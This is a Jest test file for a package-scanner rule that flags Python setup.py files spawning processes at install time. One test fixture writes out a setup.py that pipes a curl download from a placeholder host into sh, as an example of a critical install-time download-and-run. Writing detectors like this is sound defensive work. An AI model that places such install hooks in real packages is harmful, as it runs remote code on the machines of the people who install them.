import { describe, expect, it } from '@jest/globals';
import { pyInstallProcess } from '../../../src/analysis/rules/py-install-process.js';
import { gating, run, runOn } from './helpers.js';

describe('py-install-process', () => {
  it('flags the technique in a fixture package', async () => {
    const findings = await run(pyInstallProcess, 'py-install-process/positive');
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].rule).toBe('py-install-process');
    expect(findings[0].severity).toBe('high');
    expect(findings[0].message.length).toBeGreaterThan(20);
    expect(findings[0].line).toBeGreaterThan(0);
  });

  it('stays below the gate on the legitimate look-alike', async () => {
    expect(gating(await run(pyInstallProcess, 'py-install-process/negative'))).toEqual([]);
  });

  it('is critical when the install-time command downloads and runs code, and medium for build tools', async () => {
    const critical = await runOn(pyInstallProcess, 'pypi', {
      'demo-1.0/setup.py': "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n",
    });
    expect(critical[0].severity).toBe('critical');
    expect(critical[0].evidence).toContain('curl');
    const build = await runOn(pyInstallProcess, 'pypi', {
      'demo-1.0/setup.py': "import subprocess\nsubprocess.check_call(['make', '-C', 'src'])\n",
    });
    expect(build[0].severity).toBe('medium');
  });

  it('follows setup.py into the local module function it calls', async () => {
    const findings = await runOn(pyInstallProcess, 'pypi', {
      'demo-1.0/setup.py':
        'from demo.hooks import post\nfrom setuptools import setup\npost()\nsetup(name="demo")\n',
      'demo-1.0/demo/__init__.py': '',
      'demo-1.0/demo/hooks.py':
        "import subprocess\n\ndef post():\n    subprocess.Popen(['python3', 'x.py'])\n",
    });
    expect(findings.map((f) => f.file)).toEqual(['demo-1.0/demo/hooks.py']);
  });
});
